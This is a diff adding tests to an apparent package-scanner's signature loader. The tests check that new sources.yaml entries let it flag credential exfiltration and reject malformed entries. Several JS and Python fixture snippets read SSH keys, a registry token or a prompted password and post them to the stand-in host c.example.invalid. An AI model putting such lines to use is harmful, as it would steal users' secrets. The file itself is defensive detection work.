@@ -2,8 +2,10 @@
 // added through a --signatures directory takes effect, one test per entry kind; an entry
 // no front-end reads is a load error naming file and line.
 import { describe, expect, it } from "vitest";
+import { analyzeNpmPackage } from "../../src/analyzers/js/index.js";
 import { loadSignatures } from "../../src/rules/signatures.js";
-import { base, extraDir, jsFindings, loadError, sinksYaml } from "./models-helpers.js";
+import { makePackage } from "../analyzers/js/helpers.js";
+import { base, extraDir, jsFindings, loadError, pyFindings, sinksYaml, sourcesYaml } from "./models-helpers.js";
 
 const critical = (findings: string[]) => findings.some((f) => f.startsWith("credential-exfiltration critical"));
 
@@ -50,9 +52,72 @@ describe("commands.yaml runners.js", () => {
   });
 });
 
+/** A --signatures set whose sources.yaml has `more` (and the credential files `files`). */
+const sources = (more: string, files = "[]") => loadSignatures([extraDir({ "sources.yaml": sourcesYaml(files, "[]", more) })]);
+
+describe("sources.yaml js tables", () => {
+  it("fileApis.js modules + reads: a new module's member that reads a file", async () => {
+    const sigs = sources("fileApis: { js: { modules: [zorblat-fs], reads: [slurpSync] } }\n");
+    const js = 'const os = require("os");\nconst key = require("zorblat-fs").slurpSync(os.homedir() + "/.ssh/id_rsa");\nfetch("https://c.example.invalid/", { method: "POST", body: key });\n';
+    expect(await jsFindings(js, base)).toEqual([]);
+    expect(await jsFindings(js, sigs)).toEqual(["credential-exfiltration critical 3"]);
+  });
+
+  it("fileApis.js lists: a member that lists a path reads it", async () => {
+    const sigs = sources("fileApis: { js: { lists: [zlistSync] } }\n");
+    const js = 'const os = require("os"); const fs = require("fs");\nconst key = fs.zlistSync(os.homedir() + "/.ssh/id_rsa");\nfetch("https://c.example.invalid/", { method: "POST", body: key });\n';
+    expect(await jsFindings(js, base)).toEqual([]);
+    expect(await jsFindings(js, sigs)).toEqual(["credential-exfiltration critical 3"]);
+  });
+
+  it("fileApis.js copies: copying a credential file is a read of it (the copy returns nothing)", async () => {
+    const sigs = sources("fileApis: { js: { copies: [zcopySync] } }\n");
+    const js = 'const os = require("os"); const fs = require("fs");\nfs.zcopySync(os.homedir() + "/.ssh/id_rsa", "/tmp/k");\n';
+    const kinds = async (signatures: typeof base) => (await analyzeNpmPackage(makePackage({ "index.js": js }), signatures)).sources.map((s) => s.kind);
+    expect(await kinds(base)).toEqual([]);
+    expect(await kinds(sigs)).toEqual(["ssh-key"]);
+  });
+
+  it("promptModules.js: a new prompt library's password answer is a credential", async () => {
+    const sigs = sources("promptModules: { js: [zorblat-ask] }\n");
+    const js = 'async function main() {\n  const p = await require("zorblat-ask").password("Your login:");\n  fetch("https://c.example.invalid/?p=" + p);\n}\nmain();\n';
+    expect(await jsFindings(js, base)).toEqual([]);
+    expect(await jsFindings(js, sigs)).toEqual(["credential-exfiltration critical 3"]);
+  });
+
+  it("homeVariables: a new variable holding the home directory, in JS and Python", async () => {
+    const zorblatToken = '[{ kind: registry-token, pattern: "^~/\\\\.zorblat/token$", note: zorblat token }]';
+    const without = sources("", zorblatToken);
+    const sigs = sources("homeVariables: [ZHOME]\n", zorblatToken);
+    const js = 'const fs = require("fs");\nfetch("https://c.example.invalid/", { method: "POST", body: fs.readFileSync(process.env.ZHOME + "/.zorblat/token") });\n';
+    const py = 'import os, requests\nrequests.post("https://c.example.invalid/", data=open(os.environ["ZHOME"] + "/.zorblat/token").read())\n';
+    expect(await jsFindings(js, without)).toEqual([]);
+    expect(await jsFindings(js, sigs)).toEqual(["credential-exfiltration critical 2"]);
+    expect(await pyFindings(py, without)).toEqual([]);
+    expect(await pyFindings(py, sigs)).toEqual(["credential-exfiltration critical 2"]);
+  });
+
+  it("homeFolders: a new variable holding a folder under home, per front-end", async () => {
+    const js = 'const fs = require("fs");\nfetch("https://c.example.invalid/", { method: "POST", body: fs.readFileSync(process.env.ZSSH + "/id_rsa") });\n';
+    const py = 'import os, requests\nrequests.post("https://c.example.invalid/", data=open(os.path.join(os.getenv("ZSSH"), "id_rsa")).read())\n';
+    expect(await jsFindings(js, base)).toEqual([]);
+    expect(await jsFindings(js, sources("homeFolders: { js: { ZSSH: ~/.ssh } }\n"))).toEqual(["credential-exfiltration critical 2"]);
+    expect(await pyFindings(py, base)).toEqual([]);
+    expect(await pyFindings(py, sources("homeFolders: { python: { ZSSH: ~/.ssh } }\n"))).toEqual(["credential-exfiltration critical 2"]);
+  });
+});
+
 describe("an entry no front-end reads", () => {
   it("configMembers or authOptions for Python, an unknown runners.js field: errors at their line", () => {
     expect(loadError({ "sinks.yaml": "js: { modules: {}, globals: {} }\npython:\n  modules: {}\n  builtins: {}\n  configMembers: [create]\nshellPrograms: {}\n" }).message).toMatch(/sinks\.yaml:3: python: Unrecognized key: "configMembers"/);
     expect(loadError({ "commands.yaml": "runners:\n  js:\n    modules: [zorblat-run]\n    shell: [runLine]\n" }).message).toMatch(/commands\.yaml:3: runners\.js: Unrecognized key: "shell"/);
+  });
+
+  it("Python file APIs or prompt modules, a lower-case or non-home variable: errors at their line", () => {
+    const error = (more: string) => loadError({ "sources.yaml": sourcesYaml("[]", "[]", more) }).message;
+    expect(error("fileApis:\n  python:\n    reads: [open]\n")).toMatch(/sources\.yaml:5: fileApis: Unrecognized key: "python"/);
+    expect(error("promptModules:\n  python: [getpass]\n")).toMatch(/sources\.yaml:5: promptModules: Unrecognized key: "python"/);
+    expect(error("homeVariables:\n  - home\n")).toMatch(/sources\.yaml:5: homeVariables\.0: an environment variable name in upper case/);
+    expect(error("homeFolders:\n  js:\n    ZSSH: /etc/ssh\n")).toMatch(/sources\.yaml:6: homeFolders\.js\.ZSSH: a folder under the home directory/);
   });
 });
